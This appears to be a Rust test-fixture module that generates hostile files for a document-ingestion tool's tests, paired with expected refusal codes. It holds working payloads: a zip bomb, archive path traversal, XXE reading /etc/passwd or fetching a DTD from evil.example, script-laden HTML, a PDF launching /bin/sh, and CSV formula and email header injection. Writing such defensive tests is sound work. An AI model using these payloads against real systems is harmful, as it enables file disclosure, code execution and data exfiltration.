//! One file for each way in which a file is made to hurt, written beside a desk.

use std::path::PathBuf;

use super::{Desk, office};

/// A hostile file and what becomes of it.
pub struct Hostile {
    /// Its name.
    pub name: &'static str,
    /// Its bytes.
    pub bytes: Vec<u8>,
    /// The code that it is refused with; none where its text comes in.
    pub refused: Option<&'static str>,
}

impl Hostile {
    /// Writes it beside a desk.
    pub fn write(&self, desk: &Desk) -> PathBuf {
        desk.file(self.name, &self.bytes)
    }
}

fn refused(name: &'static str, bytes: impl Into<Vec<u8>>, code: &'static str) -> Hostile {
    Hostile {
        name,
        bytes: bytes.into(),
        refused: Some(code),
    }
}

fn read(name: &'static str, bytes: impl Into<Vec<u8>>) -> Hostile {
    Hostile {
        name,
        bytes: bytes.into(),
        refused: None,
    }
}

/// Word's body of a document with one sentence.
const BODY: &str = "<w:p><w:r><w:t>The gate is closed.</w:t></w:r></w:p>";

/// All of them.
pub fn files() -> Vec<Hostile> {
    [archives(), markup(), pdfs(), texts()]
        .into_iter()
        .flatten()
        .collect()
}

fn archives() -> Vec<Hostile> {
    let main = |inside: &str| format!("<w:document>{inside}</w:document>");
    let blanks = " ".repeat(48 << 20);
    let many: Vec<(String, &str)> = (0..2_100).map(|n| (format!("word/{n}.xml"), "<a/>")).collect();
    let climbing = [
        ("../../outside.txt", "x"),
        ("/tmp/outside-of-the-desk.txt", "x"),
        ("C:\\outside.txt", "x"),
        ("word/CON", "x"),
        ("word/document.xml", &main(BODY)),
    ];
    let entity = "<!DOCTYPE w:document [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>";
    let external = "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://evil.example/p.dtd\"> %p;]>";
    let secret = "<manifest:manifest xmlns:manifest=\"m\"><manifest:file-entry manifest:full-path=\"content.xml\">\
        <manifest:encryption-data/></manifest:file-entry></manifest:manifest>";
    vec![
        refused(
            "bomb.docx",
            office::zip(&[("word/document.xml", main(&blanks))]),
            "file_over_budget",
        ),
        refused("many.docx", office::zip(&many), "file_over_budget"),
        read("climbing.docx", office::zip(&climbing)),
        refused(
            "nested.zip",
            office::zip(&[("inner.docx", office::docx(BODY, "", ""))]),
            "file_binary",
        ),
        refused(
            "entities.docx",
            office::zip(&[("word/document.xml", format!("{entity}{}", main("<w:t>&x;</w:t>")))]),
            "file_over_budget",
        ),
        refused(
            "entities.xlsx",
            office::zip(&[
                ("xl/workbook.xml", "<workbook/>"),
                ("xl/worksheets/sheet1.xml", external),
            ]),
            "file_over_budget",
        ),
        refused(
            "deep.docx",
            office::docx(&"<w:p>".repeat(100_000), "", ""),
            "file_over_budget",
        ),
        refused("secret.odt", office::odt_with("x", secret), "file_encrypted"),
        refused("half.docx", &office::docx(BODY, "", "")[..300], "file_damaged"),
        refused(
            "old.doc",
            &b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1rest"[..],
            "file_binary",
        ),
    ]
}

fn markup() -> Vec<Hostile> {
    let page = "<html><head><meta http-equiv=refresh content='0; url=http://evil.example/'>\
        <link rel=stylesheet href='http://evil.example/a.css'><style>p{background:url(http://evil.example/b)}</style>\
        <script src='https://evil.example/x.js'>alert(1)</script></head><body onload='alert(1)'><article>\
        <h1>The gate</h1><p>The gate is closed.<img src='http://tracker.example/pixel.png'></p>\
        <p>It is <a href='javascript:alert(1)'>closed</a> for good, the office said on Monday.</p>\
        <iframe src='http://evil.example/'></iframe><form action='http://evil.example/'><input name=a></form>\
        <object data='file:///etc/passwd'></object></article></body></html>";
    let saved = format!(
        "MIME-Version: 1.0\nMessage-ID: <1@a.example>\nSubject: x\nContent-Type: multipart/related; type=\"text/html\"; \
         boundary=b\n\n--b\nContent-Type: text/html\nContent-Location: http://evil.example/\n\n{page}\n--b--\n"
    );
    vec![
        read("active.html", page),
        read("deep.html", "<div>".repeat(60_000) + "<p>The gate is closed.</p>"),
        read("saved.mhtml", saved),
        read(
            "active.md",
            "# The gate\n\nThe gate is <img src=http://evil.example/a onerror=alert(1)> closed. ![x](http://evil.example/b)\n",
        ),
    ]
}

fn pdfs() -> Vec<Hostile> {
    let circle = [
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        b"<< /Type /Pages /Count 1 /Kids [2 0 R] /Parent 2 0 R >>".to_vec(),
    ];
    let nested = ["[".repeat(100_000), "]".repeat(100_000)].concat();
    let deep = [b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(), nested.into_bytes()];
    let scan = "q 500 0 0 700 40 40 cm BI /W 2 /H 2 /CS /G /BPC 8 ID \u{1}\u{2}\u{3}\u{4} EI Q".to_owned();
    let launching = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (http://evil.example/) >> \
          /AA << /WC << /S /Launch /F (/bin/sh) >> >> /Names << /JavaScript << /Names [(a) << /S /JavaScript \
          /JS (app.launchURL\\('http://evil.example/'\\)) >>] >> >> >>"
            .to_vec(),
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>".to_vec(),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 \
          << /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >> >> >> >>"
            .to_vec(),
        office::stream("", office::page(&["The gate is closed."]).as_bytes()),
    ];
    vec![
        refused("circle.pdf", office::pdf_of(&circle, ""), "file_damaged"),
        refused("deep.pdf", office::pdf_of(&deep, ""), "file_damaged"),
        refused(
            "scan.pdf",
            office::pdf_with(&[scan], office::HELVETICA),
            "no_text_layer",
        ),
        refused(
            "half.pdf",
            &office::pdf(&[&["The gate is closed."]])[..60],
            "file_damaged",
        ),
        read("launching.pdf", office::pdf_of(&launching, "")),
    ]
}

fn texts() -> Vec<Hostile> {
    let marks = format!("The gate e{} is closed.", "\u{301}".repeat(1_000_000));
    let hidden =
        "The g\u{200b}ate is \u{202e}desolc\u{202c} \u{e0041}\u{e0042}, said \u{440}\u{430}ypal.example.";
    vec![
        read("marks.txt", marks),
        read("hidden.txt", hidden),
        read(
            "formulas.csv",
            "claim,who\r\n=HYPERLINK(\"http://evil.example/\"),@SUM(1)\r\n+1,\t-2\r\n",
        ),
        read("wrong-ending.pdf", "The gate is closed."),
        refused("deep.json", "[".repeat(500_000), "file_damaged"),
        refused("empty.txt", "", "file_empty"),
        read(
            "lines.eml",
            "From: a@a.example\r\nTo: b@b.example\r\nSubject: =?utf-8?q?=0d=0aBcc:_c@c.example?=\r\nMIME-Version: \
             1.0\r\n\r\nThe gate is closed. http://evil.example/\r\n",
        ),
    ]
}
